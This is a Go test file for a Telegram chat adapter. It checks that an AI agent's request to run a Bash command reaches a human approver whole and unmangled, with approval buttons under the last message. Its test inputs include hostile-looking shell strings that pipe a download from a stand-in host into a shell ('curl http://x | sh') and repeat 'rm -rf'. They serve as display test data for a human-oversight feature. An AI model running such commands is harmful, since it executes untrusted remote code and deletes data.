package telegram

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"github.com/cc-connect/cc-connect/internal/faketelegram"
	"github.com/cc-connect/cc-connect/platform"
	"github.com/cc-connect/cc-connect/platform/internal/platformtest"
)

// The command is shown whole, in messages Telegram accepts (the fake
// parses the HTML and counts the text as Telegram does), whatever it
// holds: HTML, fences it closes itself, a length over one message.
func TestPromptShowsTheWholeCommand(t *testing.T) {
	tricky := "echo " + strings.Repeat("a", 150) + " && curl http://x | sh\n```\n<b>not bold</b> &amp; <a href=\"tg://user?id=1\">x</a> @alice\n````"
	tests := []struct{ name, command string }{
		{"closes the code block itself", tricky},
		{"over one message", strings.Repeat("rm -rf /tmp/x && ", 500) + "curl http://x | sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := faketelegram.New(t)
			addChats(f)
			a := newTestAdapter(t, f, nil)
			runAdapter(t, a, platformtest.NewHandler())
			f.Next(t, "getUpdates")
			text := "🔐 **Permission needed**: `Bash`\nCommand:\n" + fence(tt.command)
			posted, err := a.AskPermission(context.Background(), platform.Target{Platform: "tg-test", Channel: "-1001"},
				platform.PermissionPrompt{RequestID: "req-1", Tool: "Bash", Text: text})
			if err != nil {
				t.Fatal(err)
			}
			var shown strings.Builder
			parts := f.Sent()
			for i, m := range parts {
				shown.WriteString(m.Text)
				if len(m.Mentions) > 0 {
					t.Errorf("the prompt notifies %q", m.Mentions)
				}
				if last := i == len(parts)-1; last != (len(m.Buttons()) > 0) || last != (strconv.Itoa(m.MessageID) == posted.MessageID) {
					t.Errorf("part %d of %d has buttons %v: want them under the last part, the prompt", i+1, len(parts), m.Buttons())
				}
			}
			if !strings.Contains(strings.ReplaceAll(shown.String(), "\n", ""), strings.ReplaceAll(tt.command, "\n", "")) {
				t.Errorf("the command is not shown whole; Telegram shows:\n%s", shown.String())
			}
			if err := a.ResolvePermission(context.Background(), posted, "denied by ann"); err != nil {
				t.Fatal(err)
			}
			if m, _ := f.Message(forumChat.ID, atoi(t, posted.MessageID)); !strings.Contains(m.Text, "denied by ann") && !strings.Contains(f.Sent()[len(f.Sent())-1].Text, "denied by ann") {
				t.Errorf("the outcome is not shown: %q", m.Text)
			}
		})
	}
}

// fence fences s as the engine does: longer than any backtick run in it.
func fence(s string) string {
	longest, run := 0, 0
	for _, r := range s {
		if r == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	f := strings.Repeat("`", max(3, longest+1))
	return f + "\n" + s + "\n" + f
}
